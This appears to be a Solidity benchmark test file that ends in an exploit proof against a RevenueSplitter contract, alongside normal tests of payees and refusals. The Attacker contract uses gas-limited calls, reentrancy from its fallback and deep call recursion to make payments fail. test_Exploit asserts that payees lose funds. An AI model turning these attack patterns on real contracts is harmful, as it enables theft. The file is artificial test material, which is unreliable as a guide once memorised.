pragma solidity 0.5.17;

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./RevenueSplitter.sol";

// assay-canary-4058f08e-09f2-469b-a5f3-b418af8597df

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
}

/// A payee's wallet that writes down what it gets, which takes more gas than some senders give.
contract Wallet {
    uint256 public got;
    uint256 public times;

    function() external payable {
        got += msg.value;
        times++;
    }

    function withdrawCredit(RevenueSplitter splitter) external {
        splitter.withdrawCredit(address(this));
    }

    function change(RevenueSplitter splitter, address payable to) external {
        splitter.changePayee(to);
    }
}

contract Token is ERC20 {
    constructor() public {
        _mint(msg.sender, 100);
    }
}

/// Takes no ether.
contract Refuser {}

contract Attacker {
    RevenueSplitter internal splitter;

    constructor(RevenueSplitter splitter_) public {
        splitter = splitter_;
    }

    function() external payable {
        _try(abi.encodeWithSelector(splitter.distribute.selector, 0, 100), gasleft());
    }

    function _try(bytes memory data, uint256 gas_) internal returns (bool ok) {
        (ok, ) = address(splitter).call.gas(gas_)(data);
    }

    function run() external {
        // with little gas, so that a payment inside may run short
        for (uint256 g = 30000; g <= 90000; g += 4000) {
            _try(abi.encodeWithSelector(splitter.distribute.selector, 1, 1), g);
        }
        // one payee, all of them, more than there are, again, and of a deposit there was not
        _try(abi.encodeWithSelector(splitter.distribute.selector, 0, 0), gasleft());
        _try(abi.encodeWithSelector(splitter.distribute.selector, 0, 1), gasleft());
        _try(abi.encodeWithSelector(splitter.distribute.selector, 0, uint256(-1)), gasleft());
        _try(abi.encodeWithSelector(splitter.distribute.selector, 0, 4), gasleft());
        _try(abi.encodeWithSelector(splitter.distribute.selector, 1, 100), gasleft());
        _try(abi.encodeWithSelector(splitter.distribute.selector, 2, 1), gasleft() / 2);
        // deep in the stack of calls
        dive(60);
        // a place, credits and tokens of others
        _try(abi.encodeWithSelector(splitter.changePayee.selector, address(this)), gasleft());
        _try(abi.encodeWithSelector(splitter.withdrawCredit.selector, address(this)), gasleft());
        _try(abi.encodeWithSelector(splitter.sweepToken.selector, address(splitter)), gasleft());
        _try(abi.encodeWithSelector(splitter.addPayee.selector, address(this), 0.5e18), gasleft());
    }

    function dive(uint256 depth) public {
        if (depth == 0) {
            _try(abi.encodeWithSelector(splitter.distribute.selector, 1, 100), gasleft());
            return;
        }
        (bool ok, ) = address(this).call(abi.encodeWithSelector(this.dive.selector, depth - 1));
        ok;
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    RevenueSplitter private splitter;
    Wallet private carla;
    Wallet private dario;
    Attacker private outsider;
    address payable private constant EMIL = address(0x4E27);

    function() external payable {}

    function setUp() public {
        vm.deal(address(this), 20 ether);
        splitter = new RevenueSplitter();
        carla = new Wallet();
        dario = new Wallet();
        splitter.addPayee(address(carla), 0.5e18);
        splitter.addPayee(EMIL, 0.2e18);
        splitter.addPayee(address(dario), 0.3e18);
        splitter.closePayees();
        splitter.deposit.value(6 ether)();
        splitter.deposit.value(3 ether)();
        outsider = new Attacker(splitter);
    }

    function test_Regular() public {
        (bool ok, ) = address(splitter).call(abi.encodeWithSelector(splitter.addPayee.selector, address(1), 1));
        require(!ok, "closed");
        // Carla and Dario have their payments sent to plain accounts
        carla.change(splitter, address(0x1EA4));
        dario.change(splitter, address(0x4E6A));
        (ok, ) = address(carla).call(abi.encodeWithSelector(carla.change.selector, splitter, address(0x1EA5)));
        require(!ok, "no place any more");
        splitter.distribute(0, 1);
        require(address(0x1EA4).balance == 3 ether && EMIL.balance == 0, "one payee");
        splitter.distribute(0, 9);
        require(EMIL.balance == 1.2 ether && address(0x4E6A).balance == 1.8 ether, "the others");
        (ok, ) = address(splitter).call(abi.encodeWithSelector(splitter.distribute.selector, 0, 1));
        require(!ok, "distributed");
        splitter.deposit.value(0.0000000000000001 ether)();
        splitter.distribute(2, 3);
        require(EMIL.balance == 1.2 ether + 20, "shares");
        splitter.distribute(1, 3);
        require(address(splitter).balance == splitter.totalCredits(), "books");
        (uint256 listed, uint256 deposited) = splitter.counts();
        require(listed == 3 && deposited == 3, "counts");

        Token token = new Token();
        token.transfer(address(splitter), 60);
        require(splitter.sweepToken(token) == 60 && token.balanceOf(address(this)) == 100, "swept");
        splitter.transferOwnership(EMIL);
        vm.prank(EMIL);
        splitter.renounceOwnership();
    }

    /// What the three have got, can withdrawCredit, and will be paid.
    function recoverable() public view returns (uint256 sum) {
        address payable[3] memory payees = [address(carla), EMIL, address(dario)];
        for (uint256 i = 0; i < 3; i++) {
            sum += payees[i].balance + splitter.credits(payees[i]);
            sum += splitter.outstanding(0, i) + splitter.outstanding(1, i);
        }
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts.
    function refuses(address who) internal {
        vm.prank(who);
        vm.expectRevert();
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The list is the owner's, and open for a while.
    function test_RefusesPayees() public {
        RevenueSplitter next = new RevenueSplitter();
        vm.expectRevert("there is no payee");
        next.closePayees();
        refuses(EMIL, "Ownable: caller is not the owner");
        next.addPayee(EMIL, 1);
        vm.expectRevert("the account cannot be added");
        next.addPayee(address(0), 1);
        next.addPayee(EMIL, 1);
        vm.expectRevert("the account cannot be added");
        next.addPayee(EMIL, 1);
        vm.expectRevert("the share is out of range");
        next.addPayee(address(1), 0);
        vm.expectRevert("the share is out of range");
        next.addPayee(address(1), 1e18 + 1);
        refuses(EMIL, "Ownable: caller is not the owner");
        next.closePayees();
        vm.expectRevert("the list of payees is not complete");
        next.deposit.value(1)();
        for (uint160 i = 1; i < 60; i++) next.addPayee(address(0x1000 + i), 1);
        vm.expectRevert("there are too many payees");
        next.addPayee(address(1), 1);
        next.closePayees();
        vm.expectRevert("the list of payees is complete");
        next.addPayee(address(1), 1);
    }

    /// Places change hands once, to somebody who has none.
    function test_RefusesChanges() public {
        vm.expectRevert("the sender is no payee");
        splitter.changePayee(address(0x99));
        refuses(EMIL, "the account cannot be used");
        splitter.changePayee(address(0));
        refuses(EMIL, "the account cannot be used");
        splitter.changePayee(address(carla));
    }

    /// A deposit is something, and is distributed once.
    function test_RefusesAmounts() public {
        vm.expectRevert("the amount is out of range");
        splitter.deposit();
        vm.deal(address(this), 2**129);
        vm.expectRevert("the amount is out of range");
        splitter.deposit.value(2**128)();
        refuses(EMIL, "there is no credit");
        splitter.withdrawCredit(EMIL);
        splitter.distribute(0, 3);
        vm.expectRevert("the deposit is distributed");
        splitter.distribute(0, 1);
    }

    /// Tokens go to the owner, by hand of the owner.
    function test_RefusesTokens() public {
        Token token = new Token();
        refuses(EMIL, "Ownable: caller is not the owner");
        splitter.sweepToken(token);
    }

    /// A credit whose owner takes no ether stays.
    function test_RefusesWhatIsNotTaken() public {
        address payable refuser = address(uint160(address(new Refuser())));
        RevenueSplitter next = new RevenueSplitter();
        next.addPayee(refuser, 1);
        next.closePayees();
        next.deposit.value(1 ether)();
        next.distribute(0, 1);
        refuses(refuser);
        next.withdrawCredit(refuser);
    }

    function exploit() public {
        outsider.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before == 9 ether && recoverable() <= 5 ether, "all is there");
    }

    function target() public view returns (address) {
        return address(splitter);
    }

    function attacker() public view returns (address) {
        return address(outsider);
    }
}
